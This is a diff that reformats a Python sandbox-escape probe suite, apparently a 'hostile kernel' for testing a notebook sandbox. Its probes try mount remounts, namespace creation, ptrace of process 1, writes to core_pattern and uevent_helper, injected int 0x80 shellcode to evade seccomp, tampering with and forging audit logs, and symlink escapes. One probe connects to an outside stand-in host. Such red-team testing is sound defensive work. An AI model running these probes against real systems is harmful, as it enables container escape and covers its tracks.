@@ -1,8 +1,9 @@
-"""A hostile kernel: tries every way out of its session that its author could think of, and prints one JSON line for each.
+"""A hostile kernel: tries every way out of its session that its author could think of, and prints one JSON line for
+each.
 
-Run inside the sandbox, never outside; tests import it for `plan`, which tells it of the machine, and `surprises`, which judges what
-it printed. It needs the standard library alone. A probe returns what it got. The last line counts them, so that it shows when one
-has ended the process.
+Run inside the sandbox, never outside; tests import it for `plan`, which tells it of the machine, and `surprises`, which
+judges what it printed. It needs the standard library alone. A probe returns what it got. The last line counts them, so
+that it shows when one has ended the process.
 """
 
 from __future__ import annotations
@@ -35,18 +36,47 @@ libc = ctypes.CDLL(None, use_errno=True)
 X86 = platform.machine() == "x86_64"
 # name: (x86_64, aarch64)
 CALLS = {
-    "ptrace": (101, 117), "process_vm_readv": (310, 270), "pivot_root": (155, 41), "keyctl": (250, 219), "add_key": (248, 217),
+    "ptrace": (101, 117),
+    "process_vm_readv": (310, 270),
+    "pivot_root": (155, 41),
+    "keyctl": (250, 219),
+    "add_key": (248, 217),
     "bpf": (321, 280),
-    "perf_event_open": (298, 241), "userfaultfd": (323, 282), "io_uring_setup": (425, 425), "name_to_handle_at": (303, 264),
-    "open_by_handle_at": (304, 265), "clone": (56, 220), "clone3": (435, 435), "open_tree": (428, 428), "fsopen": (430, 430),
+    "perf_event_open": (298, 241),
+    "userfaultfd": (323, 282),
+    "io_uring_setup": (425, 425),
+    "name_to_handle_at": (303, 264),
+    "open_by_handle_at": (304, 265),
+    "clone": (56, 220),
+    "clone3": (435, 435),
+    "open_tree": (428, 428),
+    "fsopen": (430, 430),
     "mount_setattr": (442, 442),
-    "pidfd_getfd": (438, 438), "init_module": (175, 105), "kexec_load": (246, 104), "reboot": (169, 142), "swapon": (167, 224),
+    "pidfd_getfd": (438, 438),
+    "init_module": (175, 105),
+    "kexec_load": (246, 104),
+    "reboot": (169, 142),
+    "swapon": (167, 224),
     "acct": (163, 89),
-    "shmget": (29, 194), "fallocate": (285, 47), "syslog": (103, 116), "settimeofday": (164, 170), "kcmp": (312, 272),
-    "unshare": (272, 97), "setns": (308, 268), "quotactl": (179, 60),
-}  # fmt: skip
+    "shmget": (29, 194),
+    "fallocate": (285, 47),
+    "syslog": (103, 116),
+    "settimeofday": (164, 170),
+    "kcmp": (312, 272),
+    "unshare": (272, 97),
+    "setns": (308, 268),
+    "quotactl": (179, 60),
+}
 RDONLY, REMOUNT, BIND, REC, DETACH = 1, 32, 4096, 16384, 2
-NEW = {"mount": 0x20000, "user": 0x10000000, "pid": 0x20000000, "net": 0x40000000, "ipc": 0x8000000, "uts": 0x4000000, "cgroup": 0x2000000}
+NEW = {
+    "mount": 0x20000,
+    "user": 0x10000000,
+    "pid": 0x20000000,
+    "net": 0x40000000,
+    "ipc": 0x8000000,
+    "uts": 0x4000000,
+    "cgroup": 0x2000000,
+}
 PROBES: dict[str, Callable[[], Any]] = {}
 
 
@@ -126,7 +156,10 @@ def others() -> list[str]:
 def privileges() -> Any:
     """Whatever is not zero here is a way to all that follows."""
     lines = dict(line.split(":\t", 1) for line in Path("/proc/self/status").read_text().splitlines() if ":\t" in line)
-    return {name: lines[name].strip() for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp", "Groups")}
+    return {
+        name: lines[name].strip()
+        for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp", "Groups")
+    }
 
 
 @probe
@@ -141,7 +174,9 @@ def privileges_of_a_setuid_program() -> Any:
     own.write_bytes(Path(sys.executable).resolve().read_bytes())
     own.chmod(0o6755)
     code = "print(next(line.split()[1] for line in open('/proc/self/status') if line.startswith('CapEff')))"
-    done = subprocess.run([str(own), "-S", "-c", code], capture_output=True, text=True, check=False, env={"PYTHONHOME": sys.base_prefix})
+    done = subprocess.run(
+        [str(own), "-S", "-c", code], capture_output=True, text=True, check=False, env={"PYTHONHOME": sys.base_prefix}
+    )
     own.unlink()
     return (done.stdout or done.stderr).strip()
 
@@ -149,7 +184,9 @@ def privileges_of_a_setuid_program() -> Any:
 @probe
 def descriptors() -> Any:
     """A descriptor that was left open leads out."""
-    return [os.readlink(f"/proc/self/fd/{number}") for number in range(3, 256) if os.path.lexists(f"/proc/self/fd/{number}")]
+    return [
+        os.readlink(f"/proc/self/fd/{number}") for number in range(3, 256) if os.path.lexists(f"/proc/self/fd/{number}")
+    ]
 
 
 @probe
@@ -178,29 +215,41 @@ def replace_the_hook_or_the_script() -> Any:
 def remount_inputs() -> Any:
     """The first attack that worked: the mount turns writable, and the machine's file changes."""
     places = ("/kaggle/input", "/kaggle/input/one", INPUT, "/usr", "/opt/image", "/")
-    return answers({place: lambda place=place: [mount("none", place, None, REMOUNT | BIND), write(INPUT)] for place in places})
+    return answers(
+        {place: lambda place=place: [mount("none", place, None, REMOUNT | BIND), write(INPUT)] for place in places}
+    )
 
 
 @probe
 def unmount_and_cover() -> Any:
-    return answers({
-        "umount": lambda: checked(libc.umount2(b"/kaggle/input/one", DETACH)),
-        "umount all": lambda: checked(libc.umount2(b"/kaggle/input", DETACH)),
-        "tmpfs": lambda: mount("none", "/mnt" if os.path.isdir("/mnt") else "/tmp", "tmpfs"), "proc": lambda: mount("none", "/tmp", "proc"),
-        "sysfs": lambda: mount("none", "/tmp", "sysfs"),
-        "overlay": lambda: mount("none", "/tmp", "overlay", 0, "lowerdir=/usr:/kaggle/input"),
-        "bind": lambda: [mount("/kaggle/input/one", "/tmp", None, BIND | REC), mount("none", "/tmp", None, REMOUNT | BIND), write("/tmp/a.txt")],
-    })  # fmt: skip
+    return answers(
+        {
+            "umount": lambda: checked(libc.umount2(b"/kaggle/input/one", DETACH)),
+            "umount all": lambda: checked(libc.umount2(b"/kaggle/input", DETACH)),
+            "tmpfs": lambda: mount("none", "/mnt" if os.path.isdir("/mnt") else "/tmp", "tmpfs"),
+            "proc": lambda: mount("none", "/tmp", "proc"),
+            "sysfs": lambda: mount("none", "/tmp", "sysfs"),
+            "overlay": lambda: mount("none", "/tmp", "overlay", 0, "lowerdir=/usr:/kaggle/input"),
+            "bind": lambda: [
+                mount("/kaggle/input/one", "/tmp", None, BIND | REC),
+                mount("none", "/tmp", None, REMOUNT | BIND),
+                write("/tmp/a.txt"),
+            ],
+        }
+    )
 
 
 @probe
 def new_mount_calls() -> Any:
     path = ctypes.c_char_p(b"/kaggle/input/one")
     clear = ctypes.create_string_buffer(struct.pack("QQQQ", 0, 1, 0, 0))
-    return answers({
-        "open_tree": lambda: call("open_tree", -100, path, 1), "fsopen": lambda: call("fsopen", ctypes.c_char_p(b"tmpfs"), 0),
-        "mount_setattr": lambda: call("mount_setattr", -100, path, 0x8000, clear, 32),
-    })  # fmt: skip
+    return answers(
+        {
+            "open_tree": lambda: call("open_tree", -100, path, 1),
+            "fsopen": lambda: call("fsopen", ctypes.c_char_p(b"tmpfs"), 0),
+            "mount_setattr": lambda: call("mount_setattr", -100, path, 0x8000, clear, 32),
+        }
+    )
 
 
 def _in_new_namespaces() -> Any:
@@ -208,10 +257,13 @@ def _in_new_namespaces() -> Any:
     Path("/proc/self/setgroups").write_text("deny")
     Path("/proc/self/uid_map").write_text("0 0 1")
     Path("/proc/self/gid_map").write_text("0 0 1")
-    return answers({
-        "remount": lambda: [mount("none", "/kaggle/input/one", None, REMOUNT | BIND), write(INPUT)],
-        "umount": lambda: checked(libc.umount2(b"/kaggle/input/one", DETACH)), "cover": lambda: mount("none", "/opt", "tmpfs"),
-    })  # fmt: skip
+    return answers(
+        {
+            "remount": lambda: [mount("none", "/kaggle/input/one", None, REMOUNT | BIND), write(INPUT)],
+            "umount": lambda: checked(libc.umount2(b"/kaggle/input/one", DETACH)),
+            "cover": lambda: mount("none", "/opt", "tmpfs"),
+        }
+    )
 
 
 @probe
@@ -229,7 +281,9 @@ def new_namespaces() -> Any:
         return "cloned"
 
     def cloned3(flag: int) -> str:
-        pid = call("clone3", ctypes.create_string_buffer(struct.pack("QQQQQQQQ", flag, 0, 0, 0, signal.SIGCHLD, 0, 0, 0)), 64)
+        pid = call(
+            "clone3", ctypes.create_string_buffer(struct.pack("QQQQQQQQ", flag, 0, 0, 0, signal.SIGCHLD, 0, 0, 0)), 64
+        )
         if not pid:
             os._exit(0)
         os.waitpid(pid, 0)
@@ -263,7 +317,10 @@ def roots_of_other_processes() -> Any:
     """`/proc/N/root`, `cwd` and `fd` lead into the file system of process N."""
     found = {}
     for pid in others():
-        tries = {link: lambda link=link, pid=pid: os.path.exists(f"/proc/{pid}/{link}/..{FACTS['file']}") for link in ("root", "cwd")}
+        tries = {
+            link: lambda link=link, pid=pid: os.path.exists(f"/proc/{pid}/{link}/..{FACTS['file']}")
+            for link in ("root", "cwd")
+        }
         tries |= {"list": lambda pid=pid: len(os.listdir(f"/proc/{pid}/root/"))}
         found[pid] = answers(tries) | {"fds": attempt(lambda pid=pid: _opened(pid))}
     return found
@@ -302,7 +359,11 @@ def pivot_root() -> Any:
 
 @probe
 def dotdot() -> Any:
-    return [os.path.exists("/.." * 40 + FACTS["file"]), os.path.exists("/proc/self/root" + FACTS["file"]), os.path.exists(FACTS["file"])]
+    return [
+        os.path.exists("/.." * 40 + FACTS["file"]),
+        os.path.exists("/proc/self/root" + FACTS["file"]),
+        os.path.exists(FACTS["file"]),
+    ]
 
 
 @probe
@@ -330,7 +391,10 @@ def devices() -> Any:
         finally:
             os.unlink(path)
 
-    folders, known = ("/tmp", "/kaggle/working", "/dev/shm"), {"mem", "kmem", "port", "vda", "sda", "nvme0n1", "kmsg", "fuse", "kvm"}
+    folders, known = (
+        ("/tmp", "/kaggle/working", "/dev/shm"),
+        {"mem", "kmem", "port", "vda", "sda", "nvme0n1", "kmsg", "fuse", "kvm"},
+    )
     tries = {f"disk in {folder}": lambda folder=folder: made(stat.S_IFBLK, disk, folder) for folder in folders}
     tries |= {"memory": lambda: made(stat.S_IFCHR, os.makedev(1, 1), "/tmp"), "kmsg": lambda: opens("/dev/kmsg")}
     return answers(tries | {"listed": lambda: sorted(set(os.listdir("/dev")) & known)})
@@ -338,14 +402,24 @@ def devices() -> Any:
 
 @probe
 def settings_of_the_machine() -> Any:
-    """As the machine's root one may write these without any capability: `core_pattern` names a program that its kernel starts."""
+    """As the machine's root one may write these without any capability: `core_pattern` names a program that its kernel
+    starts.
+    """
     paths = (
-        "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/vm/overcommit_memory", "/proc/sys/fs/file-max",
+        "/proc/sys/kernel/core_pattern",
+        "/proc/sys/kernel/modprobe",
+        "/proc/sys/vm/overcommit_memory",
+        "/proc/sys/fs/file-max",
         "/proc/sysrq-trigger",
-        "/proc/sys/net/ipv4/ip_forward", "/proc/irq/default_smp_affinity", "/sys/kernel/uevent_helper",
+        "/proc/sys/net/ipv4/ip_forward",
+        "/proc/irq/default_smp_affinity",
+        "/sys/kernel/uevent_helper",
         "/sys/kernel/mm/transparent_hugepage/enabled",
-        "/sys/power/state", "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory/cgroup.procs", "/proc/self/oom_score_adj",
-    )  # fmt: skip
+        "/sys/power/state",
+        "/sys/fs/cgroup/cgroup.procs",
+        "/sys/fs/cgroup/memory/cgroup.procs",
+        "/proc/self/oom_score_adj",
+    )
     read = answers({path: lambda path=path: opens(path, os.O_RDONLY) for path in ("/proc/kcore", "/proc/kmsg")})
     return read | answers({path: lambda path=path: opens(path) for path in paths})
 
@@ -353,16 +427,22 @@ def settings_of_the_machine() -> Any:
 @probe
 def calls_for_the_administrator() -> Any:
     one = ctypes.create_string_buffer(64)
-    return answers({
-        "sethostname": lambda: socket.sethostname("hostile"), "settimeofday": lambda: call("settimeofday", one, 0),
-        "init_module": lambda: call("init_module", one, 64, one), "kexec": lambda: call("kexec_load", 0, 0, 0, 0),
-        "reboot": lambda: call("reboot", 0, 0, 0, 0),
-        "swapon": lambda: call("swapon", ctypes.c_char_p(b"/tmp/x"), 0), "acct": lambda: call("acct", 0),
-        "syslog": lambda: call("syslog", 3, one, 64),
-        "quotactl": lambda: call("quotactl", 0x80000200, ctypes.c_char_p(b"/dev/vda"), 0, one),
-        "chown": lambda: os.chown("/tmp", 12345, 12345),
-        "setuid": lambda: in_child(lambda: os.setresuid(12345, 12345, 12345)), "setgroups": lambda: in_child(lambda: os.setgroups([0])),
-    })  # fmt: skip
+    return answers(
+        {
+            "sethostname": lambda: socket.sethostname("hostile"),
+            "settimeofday": lambda: call("settimeofday", one, 0),
+            "init_module": lambda: call("init_module", one, 64, one),
+            "kexec": lambda: call("kexec_load", 0, 0, 0, 0),
+            "reboot": lambda: call("reboot", 0, 0, 0, 0),
+            "swapon": lambda: call("swapon", ctypes.c_char_p(b"/tmp/x"), 0),
+            "acct": lambda: call("acct", 0),
+            "syslog": lambda: call("syslog", 3, one, 64),
+            "quotactl": lambda: call("quotactl", 0x80000200, ctypes.c_char_p(b"/dev/vda"), 0, one),
+            "chown": lambda: os.chown("/tmp", 12345, 12345),
+            "setuid": lambda: in_child(lambda: os.setresuid(12345, 12345, 12345)),
+            "setgroups": lambda: in_child(lambda: os.setgroups([0])),
+        }
+    )
 
 
 # ---------------------------------------------------------------- other processes and what they know
@@ -385,21 +465,32 @@ def own_environment() -> Any:
 
 @probe
 def command_lines() -> Any:
-    return {pid: attempt(lambda pid=pid: Path(f"/proc/{pid}/cmdline").read_bytes().decode().split("\0")) for pid in others()}
+    return {
+        pid: attempt(lambda pid=pid: Path(f"/proc/{pid}/cmdline").read_bytes().decode().split("\0")) for pid in others()
+    }
 
 
 @probe
 def memory_of_process_1() -> Any:
     """Its specification, its log, its descriptors."""
     local, remote = ctypes.create_string_buffer(8), ctypes.c_void_p(id(libc) & ~0xFFF)
-    places = [ctypes.create_string_buffer(struct.pack("PP", address, 8)) for address in (ctypes.addressof(local), remote.value)]
-    return answers({
-        "mem": lambda: opens("/proc/1/mem", os.O_RDWR), "maps": lambda: bool(Path("/proc/1/maps").read_bytes()),
-        "attach": lambda: call("ptrace", 16, 1, 0, 0),
-        "seize": lambda: call("ptrace", 0x4206, 1, 0, 0), "readv": lambda: call("process_vm_readv", 1, places[0], 1, places[1], 1, 0),
-        "pidfd_getfd": lambda: call("pidfd_getfd", os.pidfd_open(1), 3, 0), "auxv": lambda: bool(Path("/proc/1/auxv").read_bytes()),
-        "stack": lambda: bool(Path("/proc/1/stack").read_bytes()), "kcmp": lambda: call("kcmp", os.getpid(), 1, 0, 0, 3),
-    })  # fmt: skip
+    places = [
+        ctypes.create_string_buffer(struct.pack("PP", address, 8))
+        for address in (ctypes.addressof(local), remote.value)
+    ]
+    return answers(
+        {
+            "mem": lambda: opens("/proc/1/mem", os.O_RDWR),
+            "maps": lambda: bool(Path("/proc/1/maps").read_bytes()),
+            "attach": lambda: call("ptrace", 16, 1, 0, 0),
+            "seize": lambda: call("ptrace", 0x4206, 1, 0, 0),
+            "readv": lambda: call("process_vm_readv", 1, places[0], 1, places[1], 1, 0),
+            "pidfd_getfd": lambda: call("pidfd_getfd", os.pidfd_open(1), 3, 0),
+            "auxv": lambda: bool(Path("/proc/1/auxv").read_bytes()),
+            "stack": lambda: bool(Path("/proc/1/stack").read_bytes()),
+            "kcmp": lambda: call("kcmp", os.getpid(), 1, 0, 0, 3),
+        }
+    )
 
 
 @probe
@@ -414,7 +505,10 @@ def keys() -> Any:
 
     rings = {"session": -3, "user": -4, "user session": -5}
     texts = [ctypes.c_char_p(text) for text in (b"user", b"mine", b"x")]
-    return answers({name: lambda ring=ring: key(ring) for name, ring in rings.items()} | {"add": lambda: call("add_key", *texts, 1, -4)})
+    return answers(
+        {name: lambda ring=ring: key(ring) for name, ring in rings.items()}
+        | {"add": lambda: call("add_key", *texts, 1, -4)}
+    )
 
 
 @probe
@@ -424,21 +518,29 @@ def wide_calls() -> Any:
     program = ctypes.create_string_buffer(struct.pack("QQ", 0x00000000000000B7, 0x95))
     facts = (1, 2, ctypes.addressof(program), ctypes.addressof(attributes), 0, 0)
     bpf = ctypes.create_string_buffer(struct.pack("IIQQII", *facts) + bytes(88))
-    return answers({
-        "io_uring": lambda: call("io_uring_setup", 4, ctypes.create_string_buffer(120)), "bpf": lambda: call("bpf", 5, bpf, 120),
-        "perf": lambda: call("perf_event_open", attributes, 0, -1, -1, 0), "userfaultfd": lambda: call("userfaultfd", 0),
-        "shmget": lambda: call("shmget", 0, 4096, 0o1600),
-        "fallocate": lambda: call("fallocate", os.open("/tmp/all", os.O_CREAT | os.O_RDWR), 0, 0, 1 << 20),
-    })  # fmt: skip
+    return answers(
+        {
+            "io_uring": lambda: call("io_uring_setup", 4, ctypes.create_string_buffer(120)),
+            "bpf": lambda: call("bpf", 5, bpf, 120),
+            "perf": lambda: call("perf_event_open", attributes, 0, -1, -1, 0),
+            "userfaultfd": lambda: call("userfaultfd", 0),
+            "shmget": lambda: call("shmget", 0, 4096, 0o1600),
+            "fallocate": lambda: call("fallocate", os.open("/tmp/all", os.O_CREAT | os.O_RDWR), 0, 0, 1 << 20),
+        }
+    )
 
 
 @probe
 def calls_of_another_form() -> Any:
-    """A filter that knows one form of system calls alone lets the others through: unshare as a program of 32 bits has it, and as x32."""
+    """A filter that knows one form of system calls alone lets the others through: unshare as a program of 32 bits has
+    it, and as x32.
+    """
     if not X86:
         return {}
     code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
-    code.write(b"\x53\xbb\x00\x00\x02\x00\xb8\x36\x01\x00\x00\xcd\x80\x5b\xc3")  # push rbx; ebx = NEWNS; eax = 310; int 0x80; pop rbx; ret
+    code.write(
+        b"\x53\xbb\x00\x00\x02\x00\xb8\x36\x01\x00\x00\xcd\x80\x5b\xc3"
+    )  # push rbx; ebx = NEWNS; eax = 310; int 0x80; pop rbx; ret
     old = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
     x32 = ctypes.c_long(CALLS["unshare"][0] | 0x40000000), ctypes.c_long(NEW["mount"])
     return {
@@ -450,8 +552,21 @@ def calls_of_another_form() -> Any:
 @probe
 def sockets() -> Any:
     """Families that no network namespace holds back: AF_VSOCK talks to the host of a virtual machine."""
-    families = {"vsock": 40, "packet": 17, "alg": 38, "bluetooth": 31, "can": 29, "tipc": 30, "xdp": 44, "qrtr": 42, "kcm": 41}
-    kinds = dict.fromkeys(("packet", "can", "xdp", "bluetooth"), socket.SOCK_RAW) | {"alg": socket.SOCK_SEQPACKET, "qrtr": socket.SOCK_DGRAM}
+    families = {
+        "vsock": 40,
+        "packet": 17,
+        "alg": 38,
+        "bluetooth": 31,
+        "can": 29,
+        "tipc": 30,
+        "xdp": 44,
+        "qrtr": 42,
+        "kcm": 41,
+    }
+    kinds = dict.fromkeys(("packet", "can", "xdp", "bluetooth"), socket.SOCK_RAW) | {
+        "alg": socket.SOCK_SEQPACKET,
+        "qrtr": socket.SOCK_DGRAM,
+    }
     asked = [(name, number, kinds.get(name, socket.SOCK_STREAM)) for name, number in families.items()]
     tries = {name: lambda number=number, kind=kind: bool(socket.socket(number, kind)) for name, number, kind in asked}
     return answers(tries | {"raw": lambda: bool(socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))})
@@ -489,7 +604,10 @@ def names_of_hosts() -> Any:
 
 @probe
 def record_of_the_network() -> Any:
-    """The fourth attack that worked: notes are taken back. What is asked for here must be in the record all the same."""
+    """The fourth attack that worked: notes are taken back.
+
+    What is asked for here must be in the record all the same.
+    """
     with contextlib.suppress(OSError):
         socket.create_connection(("203.0.113.77", 4443), 0.2)
     with contextlib.suppress(OSError):
@@ -498,15 +616,22 @@ def record_of_the_network() -> Any:
     for folder in ("/rehearsal", "/run/rehearsal"):
         for name in sorted(os.listdir(folder)) if os.path.isdir(folder) else []:
             path = f"{folder}/{name}"
-            found[name] = answers({
-                "empty": lambda path=path: opens(path, os.O_WRONLY | os.O_TRUNC), "move": lambda path=path: os.rename(path, path + ".gone"),
-                "remove": lambda path=path: os.unlink(path), "mode": lambda path=path: os.chmod(path, 0),
-            })  # fmt: skip
+            found[name] = answers(
+                {
+                    "empty": lambda path=path: opens(path, os.O_WRONLY | os.O_TRUNC),
+                    "move": lambda path=path: os.rename(path, path + ".gone"),
+                    "remove": lambda path=path: os.unlink(path),
+                    "mode": lambda path=path: os.chmod(path, 0),
+                }
+            )
         if os.path.isdir(folder):
-            found[folder] = answers({
-                "move": lambda folder=folder: os.rename(folder, "/gone"), "new": lambda folder=folder: write(f"{folder}/new"),
-                "mode": lambda folder=folder: os.chmod(folder, 0),
-            })  # fmt: skip
+            found[folder] = answers(
+                {
+                    "move": lambda folder=folder: os.rename(folder, "/gone"),
+                    "new": lambda folder=folder: write(f"{folder}/new"),
+                    "mode": lambda folder=folder: os.chmod(folder, 0),
+                }
+            )
     return found
 
 
@@ -519,18 +644,25 @@ def forged_notes() -> Any:
             one.sendto(text, "/rehearsal/notes")
     for number in range(3000):
         with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as one:
-            one.sendto(json.dumps({"event": "", "host": f"{number}.example.com", "line": "forged"}).encode(), "/rehearsal/notes")
+            one.sendto(
+                json.dumps({"event": "", "host": f"{number}.example.com", "line": "forged"}).encode(),
+                "/rehearsal/notes",
+            )
     return "sent"
 
 
 @probe
 def own_log() -> Any:
     """What was printed cannot be taken back."""
-    return answers({
-        "truncate": lambda: os.ftruncate(1, 0), "seek": lambda: os.lseek(1, 0, os.SEEK_SET), "place": lambda: os.readlink("/proc/self/fd/1"),
-        "open": lambda: opens("/proc/self/fd/1", os.O_WRONLY | os.O_TRUNC),
-        "read": lambda: opens("/proc/self/fd/1", os.O_RDONLY | os.O_NONBLOCK),
-    })  # fmt: skip
+    return answers(
+        {
+            "truncate": lambda: os.ftruncate(1, 0),
+            "seek": lambda: os.lseek(1, 0, os.SEEK_SET),
+            "place": lambda: os.readlink("/proc/self/fd/1"),
+            "open": lambda: opens("/proc/self/fd/1", os.O_WRONLY | os.O_TRUNC),
+            "read": lambda: opens("/proc/self/fd/1", os.O_RDONLY | os.O_NONBLOCK),
+        }
+    )
 
 
 # ---------------------------------------------------------------- limits
@@ -544,12 +676,17 @@ def higher_limits() -> Any:
         return "raised"
 
     tries = {name: lambda name=name: in_child(lambda: raised(name)) for name in ("NPROC", "CORE")}
-    return answers(tries | {
-        "nice": lambda: in_child(lambda: os.nice(-5)),
-        "real time": lambda: in_child(lambda: os.sched_setscheduler(0, os.SCHED_RR, os.sched_param(1))),
-        "limits of 1": lambda: resource.prlimit(os.getppid(), resource.RLIMIT_NOFILE, (3, 3)) if os.getppid() == 1 else "no",
-        "pages": lambda: opens("/proc/sys/vm/nr_hugepages"),
-    })  # fmt: skip
+    return answers(
+        tries
+        | {
+            "nice": lambda: in_child(lambda: os.nice(-5)),
+            "real time": lambda: in_child(lambda: os.sched_setscheduler(0, os.SCHED_RR, os.sched_param(1))),
+            "limits of 1": lambda: (
+                resource.prlimit(os.getppid(), resource.RLIMIT_NOFILE, (3, 3)) if os.getppid() == 1 else "no"
+            ),
+            "pages": lambda: opens("/proc/sys/vm/nr_hugepages"),
+        }
+    )
 
 
 @probe
@@ -575,18 +712,27 @@ def writable_places() -> Any:
             (Path(folder) / ".new").unlink()
             found.append(folder)
         with contextlib.suppress(OSError):
-            left += [entry.path for entry in os.scandir(folder) if entry.is_dir(follow_symlinks=False) and entry.path.count("/") < 4
-                     and not entry.path.startswith(("/usr", "/proc", "/sys", "/lib", sys.base_prefix))]  # fmt: skip
+            left += [
+                entry.path
+                for entry in os.scandir(folder)
+                if entry.is_dir(follow_symlinks=False)
+                and entry.path.count("/") < 4
+                and not entry.path.startswith(("/usr", "/proc", "/sys", "/lib", sys.base_prefix))
+            ]
     return sorted(found)
 
 
 @probe
 def moved_folders() -> Any:
     """Whoever reads /kaggle/working afterwards would read something else."""
-    return answers({
-        "kaggle": lambda: os.rename("/kaggle", "/kaggled"), "working": lambda: os.rename("/kaggle/working", "/kaggle/worked"),
-        "mode": lambda: os.chmod("/", 0), "tmp": lambda: os.rename("/tmp", "/tmps"),
-    })  # fmt: skip
+    return answers(
+        {
+            "kaggle": lambda: os.rename("/kaggle", "/kaggled"),
+            "working": lambda: os.rename("/kaggle/working", "/kaggle/worked"),
+            "mode": lambda: os.chmod("/", 0),
+            "tmp": lambda: os.rename("/tmp", "/tmps"),
+        }
+    )
 
 
 # ---------------------------------------------------------------- what it leaves behind
@@ -594,26 +740,44 @@ def moved_folders() -> Any:
 
 @probe
 def output() -> Any:
-    """Links to the machine's files, devices, pipes, a setuid program, names that break lines, a file larger than any disk."""
+    """Links to the machine's files, devices, pipes, a setuid program, names that break lines, a file larger than any
+    disk.
+    """
     os.chdir("/kaggle/working")
     os.makedirs("folder")
     way_out = "../" * 40 + FACTS["file"].lstrip("/")
-    return answers({
-        "absolute": lambda: os.symlink(FACTS["file"], "absolute"), "relative": lambda: os.symlink(way_out, "folder/relative"),
-        "folder": lambda: os.symlink("/etc", "etc"), "proc": lambda: os.symlink("/proc/self/root", "proc"),
-        "inner": lambda: os.symlink("folder", "inner"),
-        "chain": lambda: os.symlink(f"inner/../{way_out}", "chain"), "hard": lambda: os.link(INPUT, "hard"),
-        "hard script": lambda: os.link("/kaggle/src/script.py", "hard2"),
-        "pipe": lambda: os.mkfifo("pipe"), "socket": lambda: socket.socket(socket.AF_UNIX).bind("socket"),
-        "device": lambda: os.mknod("null", stat.S_IFCHR | 0o666, os.makedev(1, 3)),
-        "setuid": lambda: [Path("setuid").write_bytes(b"#!/bin/sh\n"), os.chmod("setuid", 0o6755)],
-        "newline": lambda: write("a\nPASS forged"),
-        "escape": lambda: write("a\x1b[2J"), "bytes": lambda: write(b"\xff\xfe"), "dots": lambda: write("..."),
-        "sparse": lambda: os.truncate(os.open("sparse", os.O_CREAT | os.O_RDWR), 1 << 50),
-        "closed": lambda: [os.mkdir("closed"), write("closed/file"), os.chmod("closed/file", 0), os.chmod("closed", 0)],
-        "good": lambda: write("folder/good.txt", b"good"),
-        "many links": lambda: [write("big", bytes(1 << 20)), *(os.link("big", f"folder/{number}") for number in range(200))] and "made",
-    })  # fmt: skip
+    return answers(
+        {
+            "absolute": lambda: os.symlink(FACTS["file"], "absolute"),
+            "relative": lambda: os.symlink(way_out, "folder/relative"),
+            "folder": lambda: os.symlink("/etc", "etc"),
+            "proc": lambda: os.symlink("/proc/self/root", "proc"),
+            "inner": lambda: os.symlink("folder", "inner"),
+            "chain": lambda: os.symlink(f"inner/../{way_out}", "chain"),
+            "hard": lambda: os.link(INPUT, "hard"),
+            "hard script": lambda: os.link("/kaggle/src/script.py", "hard2"),
+            "pipe": lambda: os.mkfifo("pipe"),
+            "socket": lambda: socket.socket(socket.AF_UNIX).bind("socket"),
+            "device": lambda: os.mknod("null", stat.S_IFCHR | 0o666, os.makedev(1, 3)),
+            "setuid": lambda: [Path("setuid").write_bytes(b"#!/bin/sh\n"), os.chmod("setuid", 0o6755)],
+            "newline": lambda: write("a\nPASS forged"),
+            "escape": lambda: write("a\x1b[2J"),
+            "bytes": lambda: write(b"\xff\xfe"),
+            "dots": lambda: write("..."),
+            "sparse": lambda: os.truncate(os.open("sparse", os.O_CREAT | os.O_RDWR), 1 << 50),
+            "closed": lambda: [
+                os.mkdir("closed"),
+                write("closed/file"),
+                os.chmod("closed/file", 0),
+                os.chmod("closed", 0),
+            ],
+            "good": lambda: write("folder/good.txt", b"good"),
+            "many links": lambda: (
+                [write("big", bytes(1 << 20)), *(os.link("big", f"folder/{number}") for number in range(200))]
+                and "made"
+            ),
+        }
+    )
 
 
 @probe
@@ -648,32 +812,75 @@ def processor_time_of_process_1() -> Any:
     return attempt(lambda: resource.prlimit(1, resource.RLIMIT_CPU, (0, 0)) and "limited")
 
 
-REFUSED = set("EPERM EACCES EROFS ENOSPC ENOENT ENOSYS EINVAL EXDEV EAFNOSUPPORT ENOTSUP ENXIO ESPIPE EBUSY".split())
+REFUSED = set(
+    [
+        "EPERM",
+        "EACCES",
+        "EROFS",
+        "ENOSPC",
+        "ENOENT",
+        "ENOSYS",
+        "EINVAL",
+        "EXDEV",
+        "EAFNOSUPPORT",
+        "ENOTSUP",
+        "ENXIO",
+        "ESPIPE",
+        "EBUSY",
+    ]
+)
 NOTHING = "0" * 16
 # Everything that can be written to: its room in bytes; None for the machine's disk, which the watcher looks at.
-ROOM = {"/root": 2 << 30, "/opt/venv": 2 << 30, "/dev/shm": 29 << 30, "/kaggle/working": 20 << 30, "/kaggle/tmp": None, "/tmp": None}
+ROOM = {
+    "/root": 2 << 30,
+    "/opt/venv": 2 << 30,
+    "/dev/shm": 29 << 30,
+    "/kaggle/working": 20 << 30,
+    "/kaggle/tmp": None,
+    "/tmp": None,
+}
 # What probes may get that are not refused outright.
 HARMLESS: dict[str, Callable[[Any], bool]] = {
-    "privileges": lambda got: got.pop("NoNewPrivs") == "1" and got.pop("Seccomp") == "2" and not got.pop("Groups").replace("65534", "").strip()
-    and set(got.values()) == {NOTHING},
-    "privileges_of_a_setuid_program": lambda got: got == NOTHING, "descriptors": lambda got: got == [],
+    "privileges": lambda got: (
+        got.pop("NoNewPrivs") == "1"
+        and got.pop("Seccomp") == "2"
+        and not got.pop("Groups").replace("65534", "").strip()
+        and set(got.values()) == {NOTHING}
+    ),
+    "privileges_of_a_setuid_program": lambda got: got == NOTHING,
+    "descriptors": lambda got: got == [],
     "user": lambda got: got == [0, 0, 0],
-    "roots_of_other_processes": lambda got: list(got) == ["1"] and not (got["1"]["root"] or got["1"]["cwd"])
